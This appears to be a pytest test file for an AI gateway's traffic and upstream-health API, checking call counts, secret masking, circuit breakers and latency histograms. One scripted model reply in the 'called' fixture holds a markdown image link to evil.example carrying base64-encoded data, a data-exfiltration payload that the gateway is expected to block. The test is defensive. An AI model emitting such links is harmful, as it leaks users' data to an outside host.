"""Traffic over time and the upstreams, as the API tells of real calls through a real gateway."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from datetime import datetime
from itertools import pairwise
from typing import Any

import pytest

from helmward.core.traffic import LADDERS, MEASURES, SLOTS
from helmward.gateway.routing.breaker import FEWEST

from ...gateway.upstream import answers, hangs, refuses
from ..models.stand import Stand, stand
from ..models.talk import MAIL, SECRET, chat, parrot
from .test_access import call
from .test_scopes import token as bounded

_KEYS = {
    "calls", "failed", "blocked", "masked", "flagged", "denied", "inputTokens", "outputTokens", "usd", "unpriced",
    "p50", "p95", "p99", "ownP50", "ownP95",
}  # fmt: skip


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stand]:
    with stand(tmp_path_factory.mktemp("traffic")) as made:
        yield made


@pytest.fixture(scope="module")
def called(gateway: Stand) -> Stand:
    """Two that are answered, one of them streamed; two masked; one answer blocked; one that fails; one denied."""
    gateway.script(answers("fine and well", delay=0.06))
    assert chat(gateway, "how is it?").status == 200
    assert chat(gateway, "how is it?", stream=True).text == "fine and well"
    gateway.script(parrot())
    assert chat(gateway, f"write to {MAIL}", model="large").status == 200
    assert chat(gateway, f"the key is {SECRET}", model="large").status == 200
    gateway.script(answers("", chunks=["Look: ", f"![a](https://evil.example/p?d={'c2VjcmV0IGRhdGEgb2Yg' * 4})"]))
    assert chat(gateway, "A picture, please.").status == 403
    gateway.script(refuses(500))
    assert chat(gateway, "well?").status >= 500
    assert chat(gateway, "well?", model="nobody").status in (400, 404, 422)
    return gateway


async def get(stand: Stand, path: str) -> Any:
    status, _, answer = await call(stand.station, "get", f"/api/v1/gateway/{path}", stand.station.token("viewer"))
    assert status == 200, answer
    return answer


async def test_calls_are_told_by_what_became_of_them(called: Stand) -> None:
    found = await get(called, "traffic")
    totals, models = found["totals"], {row["model"]: row for row in found["models"]}
    assert (totals["calls"], totals["failed"], totals["denied"], totals["blocked"]) == (7, 1, 1, 1)
    assert totals["masked"] == 2 and totals["usd"] > 0 and totals["inputTokens"] > 0
    assert {name: row["calls"] for name, row in models.items()} == {"small": 4, "large": 2, "vectors": 0, "": 1}
    assert (models["small"]["failed"], models[""]["denied"], models[""]["p50"]) == (1, 1, None)
    assert models["vectors"]["p50"] is None and found["models"][0]["model"] == "small"
    rules = {(row["rule"], row["action"]): row["count"] for row in found["rules"]}
    ((blocking, count),) = [(rule, count) for (rule, action), count in rules.items() if action == "block"]
    assert blocking.startswith("leakage/") and count == 1 and rules["pii/email", "mask"] == 1
    assert rules["secrets/aws-access-key", "mask"] == 1


async def test_the_series_has_no_holes(called: Stand) -> None:
    for query, step in (
        ("", 900),
        ("?since=1h", 300),
        ("?since=7d", 7200),
        ("?since=25h", 3600),
        ("?since=7d&step=6h", 21600),
    ):
        found = await get(called, f"traffic{query}")
        times = [datetime.fromisoformat(point["time"]).timestamp() for point in found["series"]]
        assert found["step"] == step and len(times) <= 100
        assert [later - one for one, later in pairwise(times)] == [step] * (len(times) - 1)
        assert found["series"][0]["time"] == found["since"] and all(moment % step == 0 for moment in times)
        assert all(set(point) == _KEYS | {"time"} for point in found["series"])
        assert sum(point["calls"] for point in found["series"]) == found["totals"]["calls"] == 7
        assert found["series"][0]["p50"] is None


async def test_one_model_alone(called: Stand) -> None:
    found = await get(called, "traffic?model=large")
    assert found["totals"]["calls"] == 2 and [row["model"] for row in found["models"]] == ["large"]
    unknown = await get(called, "traffic?model=nobody")
    assert (unknown["totals"]["calls"], unknown["rules"], len(unknown["series"]) > 90) == (0, [], True)
    assert (await get(called, "traffic?model="))["totals"]["denied"] == 1


@pytest.mark.parametrize(
    "query", ["since=8d", "since=0s", "since=x", "step=7m", "step=0s", "step=90m", "step=2d", "since=2d&step=5m"]
)
async def test_what_is_not_kept_is_refused(gateway: Stand, query: str) -> None:
    place = f"/api/v1/gateway/traffic?{query}"
    status, _, answer = await call(gateway.station, "get", place, gateway.station.token("viewer"))
    assert status in (400, 422) and answer["error"].count("\n") == 0


@pytest.mark.parametrize("path", ["traffic", "upstreams"])
async def test_who_is_bounded_to_a_scope_sees_none_of_it(gateway: Stand, path: str) -> None:
    place = f"/api/v1/gateway/{path}"
    status, _, _ = await call(gateway.station, "get", place, bounded(gateway.station, "default"))
    assert status == 403


async def test_upstreams_tell_what_runs_and_what_fails(called: Stand) -> None:
    called.script(hangs())
    waiting = asyncio.create_task(asyncio.to_thread(chat, called, "wait", "large"))
    await asyncio.to_thread(called.station.do, called.anthropic.until(1))
    one, two = (await get(called, "upstreams"))["upstreams"]
    assert (two["name"], two["api"], two["running"], two["waiting"]) == ("two", "anthropic", 1, 0)
    assert two["host"] == f"127.0.0.1:{called.anthropic.port}" and two["models"] == ["large"]
    assert (one["models"], one["running"], one["health"]) == (["small", "vectors"], 0, "closed")
    assert one["failures"] == 1 and "500" in one["why"] and "/v1" not in str(one)
    await asyncio.to_thread(called.station.do, called.anthropic.close())
    assert (await waiting).status >= 500
    called.script(refuses(500))
    for _ in range(FEWEST):
        assert (await asyncio.to_thread(chat, called, "well?")).status >= 500
    one = (await get(called, "upstreams"))["upstreams"][0]
    assert one["health"] == "open" and one["reopensIn"] > 0 and "500" in one["why"]


async def test_waiting_for_the_upstream_is_not_our_time(called: Stand) -> None:
    """The guards are warm, the words come 200 ms apart; the histogram's slots are wide, so the bounds are."""
    before = await histograms(called)
    called.script(answers("fine and well", delay=0.2))
    assert (await asyncio.to_thread(chat, called, "how is it?", "large", True)).text == "fine and well"
    after = await histograms(called)
    took = {}
    for measure in MEASURES:
        had = before.get(measure, [0] * SLOTS)
        slots = [later - one for one, later in zip(had, after[measure], strict=True)]
        assert sum(slots) == 1
        took[measure] = LADDERS[measure][slots.index(1)]
    assert took["total"] > 0.6 and took["own"] < took["total"] / 2 and took["own"] < took["first"] < took["total"]


async def histograms(stand: Stand) -> dict[str, list[int]]:
    models = stand.station.house.models
    assert models is not None
    usage = models.gateway.parts.recorder.usage
    found = await asyncio.to_thread(stand.station.do, usage.traffic(0, 7 * 86400, "large"))
    return {timed.measure: slots for timed, slots in found.times.items()}
